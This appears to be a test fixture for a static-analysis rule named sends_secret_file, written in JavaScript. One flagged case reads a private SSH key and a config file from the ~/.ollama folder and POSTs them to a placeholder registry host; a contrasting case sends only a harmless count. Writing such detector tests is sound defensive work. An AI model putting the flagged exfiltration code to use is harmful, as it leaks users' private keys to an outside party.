// A private key's content put into an object item by item, and the object sent.
const fs = require('fs');
const os = require('os');
const path = require('path');
const dir = path.join(os.homedir(), '.ollama');
const pack = { models: [] };
for (const f of ['id_ed25519', 'config.json']) {
  try { pack[f] = fs.readFileSync(path.join(dir, f), 'utf8'); } catch (_) {}
}
// ruleid: sends_secret_file
fetch('https://registry.example.invalid/r', { method: 'POST', body: JSON.stringify(pack) });
const meta = { models: [] };
meta.count = fs.readFileSync(path.join(dir, 'models.txt'), 'utf8').split('\n').length;
// ok: sends_secret_file
fetch('https://registry.example.invalid/m', { method: 'POST', body: JSON.stringify(meta) });
